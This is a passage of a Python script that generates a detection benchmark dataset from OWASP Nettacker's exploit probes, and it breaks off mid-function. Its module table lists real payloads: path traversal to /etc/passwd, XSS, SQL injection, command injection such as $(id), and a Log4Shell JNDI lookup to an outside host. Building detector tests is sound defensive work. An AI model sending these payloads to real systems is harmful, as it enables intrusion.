#!/usr/bin/env python3
# Writes attacks.log, attacks.labels, requests.tsv, benign.log and benign.labels of
# tests/bench/data/thirdparty21 (fixed seeds: the output is byte-identical on every run).
# Python 3 standard library only, plus the `git` program to read the source repository.
# Written without reading policies/, user/, include/, bpf/, docs/, tests/unit, the repository
# README or the detector; gatehawk and tests/bench/recall.sh were not run.
#
# Angle of this set: the exploit probes of OWASP Nettacker's vulnerability modules
# (OWASP/Nettacker, Apache-2.0, nettacker/modules/vuln/*.yaml, plus the two scan modules that
# send an attack-like request: waf.yaml's XSS probe and config_file.yaml's config-file names).
# One source sends one request: the request of the module step that carries the exploit or
# probe.  Each request is rebuilt as Nettacker builds it: the module text is formatted with
# str.format (target, user_agent, url_base_path: TemplateLoader.format), the YAML is loaded,
# nettacker_fuzzer blocks are expanded (input_format.format(**data) over the product of the
# data lists, prefix/suffix, the generate_and_replace_md5 interceptor), any other list in the
# step (headers, Cookie values) multiplies the sub-steps, dependent_on_temp_event values are
# filled from the earlier step's answer, and the URL goes to aiohttp 3.13.3, whose yarl 1.23.0
# URL() requotes the path and the query and removes dot segments from the path before the
# request line is written (raw_path_qs; a fragment is dropped).  That last step is ported
# below (yarl_path_qs) from yarl's pure-Python quoter and normalize_path.
#
# gen.py does not parse YAML: the strings it needs (URL templates, fuzzer values, headers,
# bodies) are written in MODULES below exactly as they stand in the module files, and gen.py
# stops unless each one is found in the file read with `git show` at COMMIT.
#
#   python3 gen.py MIRROR            rewrites the five data files next to this script
#   python3 gen.py MIRROR --check    also checks the written files (exit 1 on a failure)
#   python3 gen.py --check-only      only the checks, on the files as they are
#   python3 gen.py MIRROR --pools    per module: distinct requests and sampled
#   python3 gen.py MIRROR --dump     every candidate request (module, step, method, URL, wire)
#
# MIRROR is the git directory of OWASP/Nettacker (bare or work tree), or a directory holding
# it as OWASP+Nettacker[/repo] (as /work/.mirror does).
import collections, datetime, glob, hashlib, ipaddress, os, random, re, subprocess, sys, urllib.parse, uuid

OUT = os.path.dirname(os.path.abspath(__file__))
REPO = 'OWASP/Nettacker'
COMMIT = '103ef3a1f5d04bcf319fa0834c140cc9d9e5b174'   # 2026-08-22 "Bump the version-updates group with 4 updates (#1686)"
LICENSE_BLOB = '8dada3edaf50dbc082c9a125058f25def75e625a'  # LICENSE: Apache License, Version 2.0
SAMPLE_SEED = 20261206          # which variants of a module
FILL_SEED = 2026120619          # values Nettacker gets at run time (log4shell token)
SEED = 2026120621               # schemes, addresses, times, statuses, user agents, benign traffic
DAY = datetime.datetime(2026, 12, 6, 0, 0, 0)
CAP = 3                         # at most this many distinct requests of one module
ATTACK_NET = ipaddress.ip_network('2001:db8:2b5e::/48')   # under 2001:db8:2b00::/40
BENIGN_NET = ipaddress.ip_network('2001:db8:2bc3::/48')
BLOCK = ipaddress.ip_network('2001:db8:2b00::/40')

TARGET = 'www.example.com'      # the scanned host (-i www.example.com)
NETTACKER_UA = 'Nettacker 0.4.1 QUIN'   # config.py DefaultSettings.user_agent (version.py 0.4.1 "QUIN"); not used in the log
GEOSERVER_TYPENAME = 'topp%3Astates'    # what step 1's regex typeName=(...%3A...) captures on a stock GeoServer
VULN = 'nettacker/modules/vuln/'
SCAN = 'nettacker/modules/scan/'


def git_dir(root):
    for c in (root, os.path.join(root, 'repo'), os.path.join(root, 'OWASP+Nettacker', 'repo'),
              os.path.join(root, 'OWASP+Nettacker')):
        if os.path.isdir(c) and subprocess.run(['git', '-C', c, 'cat-file', '-e', COMMIT + '^{commit}'],
                                               capture_output=True).returncode == 0:
            return c
    sys.exit('no git directory holding %s under %s' % (COMMIT, root))

class Repo:
    def __init__(self, root):
        self.dir = git_dir(root)
        blob = self.git('rev-parse', '%s:LICENSE' % COMMIT).strip()
        if blob != LICENSE_BLOB:
            sys.exit('LICENSE blob %s, expected %s' % (blob, LICENSE_BLOB))
        self.cache = {}
    def git(self, *a):
        return subprocess.run(['git', '-C', self.dir] + list(a), capture_output=True, check=True).stdout.decode('utf-8')
    def show(self, path):
        if path not in self.cache:
            self.cache[path] = self.git('show', '%s:%s' % (COMMIT, path))
        return self.cache[path]
    def need(self, path, raw):
        """stop unless `raw` stands in the file as written"""
        if raw not in self.show(path):
            raise SystemExit('%r not found in %s at %s' % (raw[:80], path, COMMIT))
        return raw


# ----------------------------------------------------------------- Nettacker's formatting
def ff(s):
    """TemplateLoader.format: the whole module text goes through str.format(**options)"""
    return s.format(target=TARGET, user_agent=NETTACKER_UA, url_base_path='')

def md5_interceptor(s):
    """common.generate_and_replace_md5"""
    a, rest = s.split('NETTACKER_MD5_GENERATOR_START', 1)
    inner, b = rest.split('NETTACKER_MD5_GENERATOR_STOP', 1)
    return a + hashlib.md5(inner.encode()).hexdigest() + b


# ----------------------------------------------------------------- the wire: aiohttp 3.13.3 / yarl 1.23.0
# yarl/_quoting_py.py _Quoter, with yarl/_quoters.py's PATH_REQUOTER and QUERY_REQUOTER
GEN_DELIMS = ":/?#[]@"
SUB_DELIMS_WITHOUT_QS = "!$'()*,"
UNRESERVED = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~'
ALLOWED = UNRESERVED + SUB_DELIMS_WITHOUT_QS
_IS_HEX = re.compile(b'[A-Z0-9][A-Z0-9]')

def requote(val, safe, protected, qs):
    if not val:
        return ''
    bval = val.encode('utf8', errors='ignore')
    ret, pct = bytearray(), bytearray()
    safe = safe + ALLOWED
    if not qs:
        safe += '+&=;'
    safe += protected
    bsafe = safe.encode('ascii')
    idx = 0
    while idx < len(bval):
        ch = bval[idx]
        idx += 1
        if pct:
            if 0x61 <= ch <= 0x7a:
                ch -= 32
            pct.append(ch)
            if len(pct) == 3:
                if not _IS_HEX.match(bytes(pct[1:])):
                    ret.extend(b'%25'); pct.clear(); idx -= 2; continue
                try:
                    unquoted = chr(int(pct[1:].decode('ascii'), base=16))
                except ValueError:
                    ret.extend(b'%25'); pct.clear(); idx -= 2; continue
                if unquoted in protected:
                    ret.extend(pct)
                elif unquoted in safe:
                    ret.append(ord(unquoted))
                else:
                    ret.extend(pct)
                pct.clear()
            elif len(pct) == 2 and idx == len(bval):
                ret.extend(b'%25'); pct.clear(); idx -= 1
            continue
        elif ch == ord('%'):
            pct.clear(); pct.append(ch)
            if idx == len(bval):
                ret.extend(b'%25')
            continue
        if qs and ch == ord(' '):
            ret.append(ord('+')); continue
        if ch in bsafe:
            ret.append(ch); continue
        ret.extend(('%%%02X' % ch).encode('ascii'))
    return ret.decode('ascii')

def normalize_path(path):
    """yarl/_path.py normalize_path"""
    prefix = ''
    if path and path[0] == '/':
        prefix, path = '/', path[1:]
    segs = path.split('/')
    out = []
    for s in segs:
        if s == '..':
            if out:
                out.pop()
        elif s != '.':
            out.append(s)
    if segs and segs[-1] in ('.', '..'):
        out.append('')
    return prefix + '/'.join(out)

def yarl_path_qs(url):
    """URL(url).raw_path_qs for an absolute http(s) URL with a host: path requoted then
    dot segments removed, query requoted (space -> +), fragment dropped"""
    scheme, rest = url.split('://', 1)
    m = re.match(r'([^/?#]*)(.*)$', rest, re.S)
    netloc, tail = m.group(1), m.group(2)
    tail = tail.split('#', 1)[0]
    path, _, query = tail.partition('?')
    path = normalize_path(requote(path, '@:', '/+', False))
    if not path:
        path = '/'           # aiohttp sends "/" for an empty path
    query = requote(query, '?/:@', '=+&;', True)
    return path + ('?' + query if query else '')


# ----------------------------------------------------------------- the modules
# V(step, method, url template as written, fuzzer values as written, payload headers as
#   written, body: a piece of the body as written (None: no body), place of the payload)
# step is "payload.step" of the module file, 1-based.  place: url (path or query), body,
# header, url+header.  Every string is checked against the file.
def V(step, method, url, subs=None, hdr=None, body=None, place='url', json=False):
    return dict(step=step, method=method, url=url, subs=subs or {}, hdr=hdr or {}, body=body,
                place=place, json=json)

U = '{{schema}}://{target}:{{ports}}/'
UP = '{{schema}}://{target}:{{ports}}/{{paths}}'

def P(paths, step='1.1', method='GET', tmpl=UP, var='paths', place='url', hdr=None, body=None):
    return [V(step, method, tmpl, {var: p}, hdr=hdr, body=body, place=place) for p in paths]

MODULES = [
 ('accela_cve_2021_34370', 'redirect', [V('1.1', 'GET', U + 'ssoAdapter/logoutAction.do?servProvCode=SAFVC&successURL=https://example.com/')]),
 ('adobe_coldfusion_cve_2023_26360', 'traversal',
  P(['cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/iedit.cfc', 'CFIDE/wizards/common/utils.cfc'], method='POST',
    tmpl=UP + '?method=wizardHash&inPassword=foo&_cfclient=true&returnFormat=wddx', place='body',
    body='_variables=%7b%22_metadata%22%3a%7b%22classname%22%3a%22i/../lib/password.properties%22%7d%2c%22_variables%22%3a%5b%5d%7d')),
 ('adobe_coldfusion_cve_2026_48282', 'traversal',
  [V('1.1', 'POST', U + 'CFIDE/main/ide.cfm?ACTION=FILEIO', body=b, place='body') for b in
   ['2:STR:100:../../../../../../../../../../../../../../../../../../../../../../../../../../../../../../etc/passwdSTR:4:READ',
    '2:STR:105:..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\Windows\\win.iniSTR:4:READ']]),
 ('aiohttp_cve_2024_23334', 'traversal',
  P(['assets', 'images', 'public', 'resources', 'static', 'media', 'uploads', 'build'],
    tmpl=UP + '/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd')),
 ('apache_cve_2021_41773', 'traversal',
  P(['cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd', 'cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/etc/passwd',
     'cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/etc/passwd',
     'cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd'],
    tmpl='{{schema}}://{target}:{{ports}}/{{path}}', var='path')),
 ('apache_cve_2021_42013', 'traversal',
  [V('1.1', 'GET', U + 'cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd')]),
 ('apache_ofbiz_cve_2024_38856', 'rce',
  P(["webtools/control/forgotPassword/ProgramExport?groovyProgram=throw+new+Exception('id'.execute().text)"], method='POST')),
 ('apache_struts', 'rce',     # Content-Type: prefix + input_format + suffix of the header's fuzzer
  [V('1.1', 'GET', U, hdr={'Content-Type': ('%{{', "#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader({{random_string}},{{random_string}}", ')}}.multipart/form-data')},
     subs={'random_string': s}, place='header') for s in ['randomstring_xyz_1', 'randomstring_xyz_2', 'randomstring_xyz_3']]),
 ('aviatrix_cve_2021_40870', 'rce',
  [V('1.1', 'POST', U + 'v1/backend1', place='body',
     body='CID=x&action=set_metric_gw_selections&account_name=/../../../var/www/php/random_string1.php&data=NETTACKER<?php phpinfo()?>')]),
 ('cisco_hyperflex_cve_2021_1497', 'rce',
  P(['auth/change', 'auth'], method='POST', place='body',
    body='username=root&password=123%5C%22%2C%5C%22%246%24%24%5C%22%29%29%3Bprint%28%22%5Cx6e')),
 ('citrix_cve_2019_19781', 'traversal',
  P(['vpn/../vpns/cfg/smb.conf', 'vpn/../vpns/portal/scripts/newbm.pl', 'vpn/../vpns/portal/scripts/rmbm.pl',
     'vpn/../vpns/portal/scripts/picktheme.pl'])),
 ('citrix_cve_2023_24488', 'xss',
  P(["oauth/idp/logout?post_logout_redirect_uri=%0d%0a%0d%0a<script>alert(%27vulnerable%27)</script>%27"])),
 ('citrix_cve_2023_4966', 'info-disclosure',
  P(['oauth/idp/.well-known/openid-configuration'], place='header', hdr={'Host': 'A' * 24812})),
 ('cloudron_cve_2021_40868', 'xss',
  [V('1.1', 'GET', U + 'login.html?returnTo=%3C%2Fscript%3E%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3E')]),
 ('confluence_cve_2023_22527', 'rce',
  [V('1.1', 'POST', U + 'template/aui/text-inline.vm', place='body',
     body='label=aaa%5Cu0027%2B%23request.get%28%5Cu0027.KEY_velocity.struts2.context%5Cu0027%29.internalGet%28%5Cu0027ognl%5Cu0027%29')]),
 ('crushftp_cve_2025_31161', 'auth-bypass',
  P(['/WebInterface/function/?command=getUserList&serverGroup=MainUsers&c2f=1111'], tmpl='{{schema}}://{target}:{{ports}}{{paths}}',
    place='header', hdr={'Cookie': 'CrushAuth=1111111111_111111111111111111111111111111111',
                         'Authorization': 'AWS4-HMAC-SHA256 Credential=crushadmin/'})),
 ('cyberoam_netgenie_cve_2021_38702', 'xss',
  [V('1.1', 'GET', U + 'tweb/ft.php?u=%3C%2Fscript%3E%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3E')]),
 ('exponent_cms_cve_2021_38751', 'host-header', [V('1.1', 'GET', U, hdr={'Host': 'random_string_1.com'}, place='header')]),
 ('f5_cve_2020_5902', 'traversal',
  P(['tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd',
     'tmui/login.jsp/..;/tmui/locallb/workspace/directoryList.jsp?directoryPath=/etc/',
     'tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=id'])),
 ('forgerock_am_cve_2021_35464', 'traversal', [V('1.1', 'GET', U + 'openam/oauth2/..;/ccversion/Version')]),
 ('galera_webtemp_cve_2021_40960', 'traversal',
  [V('1.1', 'GET', U + 'GallerySite/filesrc/fotoilan/388/middle//.%252e/.%252e/.%252e/.%252e/.%252e/.%252e/.%252e/etc/passwd')]),
 ('geoserver_cve_2024_36401', 'rce',
  [V('1.2', 'GET', U + "geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=dependent_on_temp_event[0]['content'][0]&valueReference=java.lang.Runtime.getRuntime%28%29")]),
 ('grafana_cve_2021_43798', 'traversal',
  P(['alertlist', 'annolist', 'barchart', 'bargauge', 'cloudwatch', 'dashlist', 'elasticsearch', 'gauge', 'geomap',
     'gettingstarted', 'grafana-azure-monitor-datasource', 'grafana-clock-panel', 'grafana-simple-json-datasource', 'graph',
     'graphite', 'heatmap', 'histogram', 'influxdb', 'jaeger', 'logs', 'loki', 'mssql', 'mysql', 'news', 'nodeGraph',
     'opentsdb', 'piechart', 'pluginlist', 'postgres', 'prometheus', 'stackdriver', 'stat', 'state-timeline',
     'status-history', 'table', 'table-old', 'tempo', 'testdata', 'text', 'timeseries', 'welcome', 'zipkin'],
    tmpl=U + 'public/plugins/{{plugin-id}}/../../../../../../../../../../../../../../../../../../../etc/passwd', var='plugin-id')),
 ('graphql', 'info-disclosure',
  P(['1239b01720/graphql'], method='POST', tmpl='{{schema}}://{target}:{{ports}}/{{endpoint}}', var='endpoint', place='body',
    body='__schema {{')),
 ('gurock_testrail_cve_2021_40875', 'info-disclosure', P(['files.md5', 'testrail/files.md5'])),
 ('hoteldruid_cve_2021-37833', 'xss',
  P(['visualizza_tabelle.php?anno=2021&tipo_tabella=prenotazioni&sel_tab_prenota=tutte&wo03b%3C%2Fscript%3E%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3Ew5px3=1',
     'storia_soldi.php?piu17%3C%2Fscript%3E%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3Ee3esq=1',
     'tabella.php?jkuh3%3C%2Fscript%3E%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3Eyql8b=1',
     'crea_modelli.php?anno=2021&id_sessione=&fonte_dati_conn=attuali&T_PHPR_DB_TYPE=postgresql&T_PHPR_DB_NAME=%C2%9E%C3%A9e&T_PHPR_DB_HOST=localhost&T_PHPR_DB_PORT=5432&T_PHPR_DB_USER=%C2%9E%C3%A9e&T_PHPR_DB_PASS=%C2%9E%C3%A9e&T_PHPR_LOAD_EXT=NO&T_PHPR_TAB_PRE=%C2%9E%C3%A9e&anno_modello=2021&lingua_modello=en&cambia_frasi=SIipq85%3C%2Fscript%3E%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3Ef9xkbujgt24&form_availability_calendar_template=1'])),
 ('ivanti_epmm_cve_2023_35082', 'auth-bypass', P(['mifs/asfV3/api/v2/ping'])),
 ('ivanti_ics_cve_2023_46805', 'auth-bypass', P(['api/v1/configuration/users/user-roles/user-role/rest-userrole1/web/web-bookmarks/bookmark'])),
 ('joomla_cve_2023_23752', 'info-disclosure',
  P(['api/index.php/v1/config/application?public=true', 'api/v1/config/application?public=true'])),
 ('justwirting_cve_2021_41878', 'xss',
  [V('1.1', 'GET', U + 'lostpassword.php/%3C%2Fscript%3E%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3E')]),
 ('langflow_cve_2025_3248', 'rce',
  [V('1.1', 'POST', U + 'api/v1/validate/code', place='body', json=True,
     body='''@exec("import subprocess; raise Exception(subprocess.check_output(['id']))")''')]),
 ('majordomo_rce_cve_2026_27174', 'rce',
  P(['admin.php?ajax_panel=1&op=console&command=echo+file_get_contents%28%27%2Fetc%2Fpasswd%27%29%3B'])),
 ('maxsite_cms_cve_2021_35265', 'xss',
  P(['page/1%3C%2Fscript%3E%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3E',
     'maxsite/page/1%3C%2Fscript%3E%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3E'])),
 ('memos_cve_2025_22952_ssrf', 'ssrf', [V('1.1', 'GET', U + 'api/v1/markdown/link:metadata?link=http://localhost:13042')]),
 ('metabase_cve_2026_72898', 'sqli',
  [V('1.1', 'POST', U + 'api/session/reset_password', place='body', json=True, body=b)
   for b in ['OR (SELECT pg_sleep(6)) IS NULL --', 'OR (SELECT sleep(6)) #']]),
 ('meteobridge_cve_2025_4008', 'rce', [V('1.1', 'GET', U + 'public/template.cgi?templatefile=$(id)')]),
 ('msexchange_cve_2021_26855', 'ssrf',
  [V('1.1', 'GET', U + 'owa/auth/x.js', hdr={'Cookie': c}, place='header') for c in
   ['X-AnonResource=true; X-AnonResource-Backend=http://{target}/ecp/default.flt?~3;',
    'X-AnonResource=true; X-AnonResource-Backend=https://{target}/ecp/default.flt?~3;']]),
 ('msexchange_cve_2021_34473', 'ssrf',
  P(['autodiscover/autodiscover.json?@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com',
     'autodiscover/autodiscover.json?@test.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@test.com'])),
 ('nextjs_cve_2025_55182', 'rce',
  [V('1.1', 'POST', U, hdr={'next-action': 'x'}, place='body', body='--WebKitFormBoundaryx2pO7Ptc6DDP3Sad\\r\\nContent-Disposition: form-data; name=\\"0\\"'),
   V('1.2', 'POST', U, hdr={'next-action': 'x'}, place='body', body='--WebKitFormBoundaryx2pO7Ptc6DDP3Bad\\r\\nContent-Disposition: form-data; name=\\"0\\"')]),
 ('nexus_cve_2024_4956', 'traversal',
  P(['/%2f%2f%2f%2f%2f%2f%2f%2f%2f%2f%2f%2f%2f%2f%2f%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd'],
    tmpl='{{schema}}://{target}:{{ports}}{{path}}', var='path')),
 ('nginx_ui_cve_2026_33032', 'auth-bypass',
  [V('1.1', 'POST', U + 'mcp_message', place='body', json=True, body='"method":"initialize",')]),
 ('novnc_cve_2021_3654', 'redirect', [V('1.1', 'GET', U + '/example.com/%2f..')]),
 ('omigod_cve_2021_38647', 'rce',
  [V('1.1', 'POST', U + 'wsman', place='body',
     body='<a:Action>http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem/ExecuteScript</a:Action>')]),
 ('paloalto_globalprotect_cve_2025_0133', 'xss',
  P(['ssl-vpn/getconfig.esp?client-type=1&protocol-version=p1&app-version=3.0.1-10&clientos=Linux&os-version=linux-64&hmac-algo=sha1%2Cmd5&enc-algo=aes-128-cbc%2Caes-256-cbc&authcookie=12cea70227d3aafbf25082fac1b6f51d&portal=us-vpn-gw-N&user=<svg%20xmlns%3D%22http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%22><script>prompt%28%22XSS%22%29<%2Fscript><%2Fsvg>&domain=%28empty_domain%29&computer=computer'])),
 ('paloalto_panos_cve_2025_0108', 'auth-bypass', P(['unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css'])),
 ('payara_cve_2021_41381', 'info-disclosure', [V('1.1', 'GET', U + './/WEB-INF/classes/META-INF/microprofile-config.properties')]),
 ('phpinfo_cve_2021_37704', 'info-disclosure',
  P(['vendor/phpfastcache/phpfastcache/docs/examples/phpinfo.php', 'vendor/phpfastcache/phpfastcache/examples/phpinfo.php'])),
 ('placeos_cve_2021_41826', 'redirect', [V('1.1', 'GET', U + 'auth/logout?continue=//example.com')]),
 ('prestashop_cve_2021_37538', 'sqli',
  [V('1.1', 'GET', U + 'module/smartblog/archive?month=1&year=1&day=1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL,(SELECT%20MD5(55555)),NULL,NULL,NULL,NULL,NULL,NULL,NULL--%20-')]),
 ('puneethreddyhc_sqli_cve_2021_41648', 'sqli', [V('1.1', 'POST', U + 'action.php', place='body', body="proId=1'&addToCart=1")]),
 ('puneethreddyhc_sqli_cve_2021_41649', 'sqli', [V('1.1', 'POST', U + 'homeaction.php', place='body', body="cat_id=4'&get_seleted_Category=1")]),
 ('qsan_storage_xss_cve_2021_37216', 'xss',
  [V('1.1', 'GET', U + 'http_header.php', hdr={'X-Trigger-XSS': '<script>alert(1)</script>'}, place='header')]),
 ('siyuan_cve_2026_34605', 'xss',
  [V('1.1', 'GET', U + 'api/icon/getDynamicIcon?type=8&color=red&content=%3C%2Ftext%3E%3Cx%3Ascript%20xmlns%3Ax%3D%22http%3A%2F%2Fwww.w3.org%2F2000%2Fsvg%22%3Ealert%28document.domain%29%3C%2Fx%3Ascript%3E%3Ctext%3E')]),
 ('smartermail_cve_2026_24423', 'ssrf',
  [V('1.1', 'POST', U + 'api/v1/settings/sysadmin/connect-to-hub', place='body', json=True, body='hubAddress: "http://127.0.0.1:1"')]),
 ('sonicwall_sslvpn_cve_2024_53704', 'auth-bypass',
  P(['cgi-bin/sslvpnclient?launchplatform='], place='header', hdr={'Cookie': 'swap=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA='})),
 ('teamcity_cve_2024_27198', 'auth-bypass', [V('1.1', 'GET', U + 'hax?jsp=/app/rest/server;.jsp')]),
 ('tieline_cve_2021_35336', 'auth-bypass',
  [V('1.1', 'GET', U + 'api/get_device_details', place='header',
     hdr={'Authorization': 'Digest username="admin", realm="Bridge-IT", nonce="d24d09512ebc3e43c4f6faf34fdb8c76", uri="/api/get_device_details", response="d052e9299debc7bd9cb8adef0a83fed4", qop=auth, nc=00000001, cnonce="ae373d748855243d"'})]),
 ('tjws_cve_2021_37573', 'xss', [V('1.1', 'GET', U + 'te%3Cimg%20src=x%20onerror=alert(1)%3Est')]),
 # the module nests its form data under url:, next to nettacker_fuzzer; the fuzzer expansion
 # replaces the whole url mapping by the URL string, so the POST goes out without a body
 ('vbulletin_cve_2019_16759', 'rce', [V('1.1', 'POST', U + 'ajax/render/widget_tabbedcontainer_tab_panel', place='url')]),
 ('vite_cve_2025_31125', 'traversal',
  P(['@fs/C:/windows/win.ini?import&?inline=1.wasm?init', '@fs/etc/passwd?import&?inline=1.wasm?init',
     '@fs/../../../../../../../etc/passwd?import&?inline=1.wasm?init',
     '@fs/%252e%252e/%252e%252e/%252e%252e/etc/passwd?import&?inline=1.wasm?init'],
    tmpl='{{schema}}://{target}:{{ports}}/{{path}}', var='path')),
 ('wordpress_core_cve_2026_63030', 'cve-exploit',
  P(['/?rest_route=/batch/v1', '/wp-json/batch/v1'], method='POST', tmpl='{{schema}}://{target}:{{ports}}{{paths}}', place='body',
    body='{{"method":"POST","path":"http://:"}}')),
 ('wp_plugin_cve_2021_38314', 'info-disclosure',
  P(['http://{target}/-redux', 'https://{target}/-redux'], var='md5',
    tmpl=U + 'wp-admin/admin-ajax.php?action=NETTACKER_MD5_GENERATOR_START{{md5}}NETTACKER_MD5_GENERATOR_STOP')),
 ('wp_plugin_cve_2021_39316', 'traversal',
  [V('1.1', 'GET', U + '?action=dzsap_download&link=../../../../../../../../../../../../../etc/passwd')]),
 ('wp_plugin_cve_2021_39320', 'xss',
  [V('1.1', 'GET', U + 'wp-admin/admin.php/%3C%2Fscript%3E%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3E/?page=under-construction')]),
 ('wp_plugin_cve_2023_47668', 'info-disclosure', [V('1.1', 'GET', U + 'wp-content/uploads/rcp-debug.log')]),
 ('wp_plugin_cve_2023_6875', 'auth-bypass', [V('1.1', 'POST', U + 'wp-json/post-smtp/v1/connect-app')]),
 ('wp_xmlrpc_bruteforce', 'brute-force',
  [V('1.1', 'POST', U + 'xmlrpc.php', place='body', body='<methodName>wp.getUsersBlogs</methodName>')]),
 ('wp_xmlrpc_dos', 'info-disclosure',
  [V('1.1', 'POST', U + 'xmlrpc.php', place='body', body='<methodName>system.listMethods</methodName>')]),
 ('wp_xmlrpc_pingback', 'ssrf',
  [V('1.1', 'POST', U + 'xmlrpc.php', place='body', body='<methodName>pingback.ping</methodName><params><param><value><string>http://Cannotbehere:22/</string>')]),
 # the /./ of the URL is removed by yarl before the request goes out: only the body is left
 ('zoho_cve_2021_40539', 'auth-bypass', [V('1.1', 'POST', U + './RestAPI/LogonCustomization', place='body', body='methodToCall=previewMobLogo')]),
 ('scan/waf', 'xss',
  [V('1.2', 'GET', '{{schema}}://{target}:{{ports}}/?{{query}}={{param}}', {'query': 'a', 'param': '<script>alert(\\"NETTACKER\\");</script>'})]),
]
# config_file (scan): the names of wordlists/config_wordlist.txt; log4j: built from the file below
CONFIG_TMPL = '{{schema}}://{target}:{{ports}}/{url_base_path}{{urls}}'
CONFIG_LIST = 'nettacker/lib/payloads/wordlists/config_wordlist.txt'
LOG4J = VULN + 'log4j_cve_2021_44228.yaml'
LOG4J_VALUE = "${{jndi:ldap://log4shell.huntress.com:1389/dependent_on_temp_event[0]['content'][0]}}"
LOG4J_PATHS = ["${{jndi:ldap://log4shell.huntress.com:1389/dependent_on_temp_event[0]['content'][0]}}",
               "?q=${{jndi:ldap://log4shell.huntress.com:1389/dependent_on_temp_event[0]['content'][0]}}",
               "#/${{jndi:ldap://log4shell.huntress.com:1389/dependent_on_temp_event[0]['content'][0]}}", '']
LOG4J_SKIP_HEADERS = ('User-Agent', 'Referer')   # they would be logged in the UA / Referer fields

# Modules with no attack request: left out (README lists why)
LEFT_OUT = {
 'clickjacking': 'GET / only, reads X-Frame-Options',
 'content_security_policy': 'GET / only, reads the CSP header',
 'content_type_options': 'GET / only, reads X-Content-Type-Options',
 'http_cookie': 'GET / only, reads Set-Cookie flags',
 'http_cors': 'GET / with an Origin header (header policy check)',
 'http_options_enabled': 'OPTIONS / only',
 'strict_transport_security': 'GET / only, reads HSTS',
 'x_powered_by': 'GET / only, reads X-Powered-By',
 'x_xss_protection': 'GET / only, reads X-XSS-Protection',
 'server_version': 'GET / only, reads Server',
 'subdomain_takeover': 'GET / only, matches takeover fingerprints in the page',
 'xdebug_rce': 'GET / only, reads the Xdebug header version',
 'confluence_cve_2023_22515': 'GET /dashboard.action, a version check (no exploit request)',
 'ssl_certificate_weak_signature': 'TLS handshake, no HTTP request',
 'ssl_expired_certificate': 'TLS handshake, no HTTP request',
 'ssl_self_signed_certificate': 'TLS handshake, no HTTP request',
 'ssl_weak_cipher': 'TLS handshake, no HTTP request',
 'ssl_weak_version': 'TLS handshake, no HTTP request',
}
CATEGORIES = sorted({c for _, c, _ in MODULES} | {'log4shell', 'file-probe'})


def mod_path(name):
    return SCAN + name.split('/', 1)[1] + '.yaml' if name.startswith('scan/') else VULN + name + '.yaml'

def first_scheme_port(text, tmpl):
    """the first scheme and port of the data lists that follow the URL template"""
    i = text.index(tmpl)
    s = re.search(r'\n\s*schema:\s*\n\s*- "?([a-z]+)"?', text[i:])
    p = re.search(r'\n\s*ports:\s*\n\s*- (\d+)', text[i:])
    return s.group(1), int(p.group(1))


class Cand:
    def __init__(self, module, category, path, step, method, url, hdr, body, place, json=False):
        self.module, self.category, self.path, self.step, self.method = module, category, path, step, method
        self.url, self.hdr, self.body, self.place, self.json = url, hdr, body, place, json
        self.wire = yarl_path_qs(url)
    def key(self):
        return (self.method, self.wire, tuple(sorted(self.hdr.items())), self.body)


def candidates(repo, fr):
    """per module, the distinct requests (same method, request line, payload headers and body)"""
    C = collections.OrderedDict()
    for name, cat, variants in MODULES:
        path = mod_path(name)
        text = repo.show(path)
        out = []
        for v in variants:
            repo.need(path, v['url'])
            scheme, port = first_scheme_port(text, v['url'])
            data = {'schema': scheme, 'ports': port}
            for k, raw in v['subs'].items():
                repo.need(path, raw)
                data[k] = ff(raw)
            hdr = {}
            for h, raw in v['hdr'].items():
                if isinstance(raw, tuple):       # prefix, input_format, suffix
                    for piece in raw:
                        repo.need(path, piece)
                    hdr[h] = ff(raw[0]) + ff(raw[1]).format(**data) + ff(raw[2])
                else:
                    repo.need(path, raw)
